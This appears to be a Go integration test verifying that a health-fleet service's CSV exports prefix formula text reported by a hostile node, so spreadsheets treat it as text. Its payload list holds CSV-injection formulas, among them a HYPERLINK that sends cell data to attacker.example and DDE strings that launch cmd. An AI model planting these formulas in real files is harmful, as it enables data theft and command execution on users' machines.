//go:build integration

package api_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.temporal.io/sdk/client"

	"github.com/vigil-health/vigil/activities"
	"github.com/vigil-health/vigil/internal/node/broker"
	"github.com/vigil-health/vigil/internal/node/brokersim"
	"github.com/vigil-health/vigil/worker"
	"github.com/vigil-health/vigil/workflows"
)

// csvPayloads are what a hostile (or compromised) node reports as import
// error content and as resource keys and values: spreadsheet formulas and
// the starts of formulas, each with the cell the export must hold.
var csvPayloads = []struct{ reported, exported string }{
	{`=HYPERLINK("http://attacker.example/?d="&A1,"details")`, `'=HYPERLINK("http://attacker.example/?d="&A1,"details")`},
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
	{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
	{`@SUM(1+9)*cmd|' /C calc'!A0`, `'@SUM(1+9)*cmd|' /C calc'!A0`},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	// A plain number is data, not a formula: kept as is.
	{"-3", "-3"},
	// Ordinary text is untouched.
	{"error: cvc-id.2: value '=x' is not valid", "error: cvc-id.2: value '=x' is not valid"},
}

// hostileBroker is the broker simulator's client with a node that reports
// formula text: every payload as an import error and as a key and value of
// its versions resource.
type hostileBroker struct {
	activities.BrokerSource
	node string
	at   time.Time
}

func (h hostileBroker) Stats(ctx context.Context, id string) (*broker.ImportStats, error) {
	st, err := h.BrokerSource.Stats(ctx, id)
	if err != nil || st == nil || id != h.node {
		return st, err
	}
	out := *st
	out.Errors = slices.Clone(st.Errors)
	for i, p := range csvPayloads {
		out.Errors = append(out.Errors, broker.ImportError{Timestamp: h.at.Add(time.Duration(i) * time.Second), Repeats: 1, Content: p.reported})
	}
	return &out, nil
}

func (h hostileBroker) Resource(ctx context.Context, id, name string) ([]broker.Property, error) {
	props, err := h.BrokerSource.Resource(ctx, id, name)
	if err != nil || id != h.node || name != broker.ResourceVersions {
		return props, err
	}
	props = slices.Clone(props)
	for i, p := range csvPayloads {
		props = append(props, broker.Property{Key: fmt.Sprintf("k%02d", i), Value: p.reported}, broker.Property{Key: p.reported, Value: "v"})
	}
	slices.SortFunc(props, func(a, b broker.Property) int { return strings.Compare(a.Key, b.Key) })
	return props, nil
}

// TestSecurity_CSV_NodeTextExportedNeutralised: formula text a node reports
// through the broker (fleet scan, node workflow, Postgres) comes out of the
// CSV exports prefixed with ', so a spreadsheet shows it as text. Before,
// it was exported verbatim and Excel or LibreOffice evaluated it.
func TestSecurity_CSV_NodeTextExportedNeutralised(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	node := ndNewID(t)
	sim := brokersim.New(brokersim.Options{})
	_, err := sim.AddNode(brokersim.NodeSpec{ID: node, Name: "=HYPERLINK(\"http://x\",\"y\")", Behaviour: brokersim.Healthy})
	require.NoError(t, err)
	url, stop, err := sim.Start("127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(stop)
	bc, err := broker.NewClient(broker.Options{BaseURL: url, APIKey: brokersim.DefaultAdminKey, Timeout: 5 * time.Second})
	require.NoError(t, err)
	now := time.Now().UTC().Truncate(time.Second)
	s := startStackWith(t, worker.Dependencies{Broker: hostileBroker{BrokerSource: bc, node: node, at: now.Add(-time.Minute)}})
	token := s.login(t, "a01")

	run, err := env.Client.ExecuteWorkflow(ctx, client.StartWorkflowOptions{ID: "fleet-scan-" + uuid.NewString(), TaskQueue: s.TaskQueue},
		workflows.FleetScan, &workflows.FleetScanInput{})
	require.NoError(t, err)
	require.NoError(t, run.Get(ctx, nil))
	require.EventuallyWithT(t, func(c *assert.CollectT) {
		var errs, changes int
		assert.NoError(c, env.DB.Get(&errs, `SELECT count(*) FROM node_import_errors WHERE node_id = $1`, node))
		assert.NoError(c, env.DB.Get(&changes, `SELECT count(*) FROM node_resource_changes WHERE node_id = $1 AND resource = $2`, node, broker.ResourceVersions))
		assert.GreaterOrEqual(c, errs, len(csvPayloads))
		assert.GreaterOrEqual(c, changes, 2*len(csvPayloads))
	}, 60*time.Second, 100*time.Millisecond)

	export := func(kind string) [][]string {
		t.Helper()
		resp, body := ndRaw(t, s, "GET", fmt.Sprintf("/v1/nodes/%s/export?year=%d&kind=%s", node, now.Year(), kind), token, "", "")
		require.Equal(t, http.StatusOK, resp.StatusCode, string(body))
		r := csv.NewReader(strings.NewReader(string(body)))
		r.Comma = ';'
		rows, err := r.ReadAll()
		require.NoError(t, err, string(body))
		return rows
	}
	// Every cell of every export: none may start a formula.
	for _, kind := range []string{"errors", "resources", "stats"} {
		for _, row := range export(kind) {
			for _, cell := range row {
				if cell == "" || cell == "-" || isPlainNumber(cell) {
					continue
				}
				require.NotContains(t, "=+-@\t\r", cell[:1], "%s export cell %q", kind, cell)
			}
		}
	}

	errorCells := map[string]bool{}
	for _, row := range export("errors")[1:] {
		errorCells[row[2]] = true
	}
	resourceCells := map[string]bool{}
	for _, row := range export("resources")[1:] {
		resourceCells[row[2]], resourceCells[row[4]] = true, true
	}
	for _, p := range csvPayloads {
		require.True(t, errorCells[p.exported], "error content %q exported as %q", p.reported, p.exported)
		require.True(t, resourceCells[p.exported], "resource text %q exported as %q", p.reported, p.exported)
	}
}

// isPlainNumber reports whether s is a number such as -3 or 0.5.
func isPlainNumber(s string) bool {
	var f float64
	_, err := fmt.Sscanf(s, "%g", &f)
	return err == nil && strings.Trim(s, "+-0123456789.eE") == ""
}
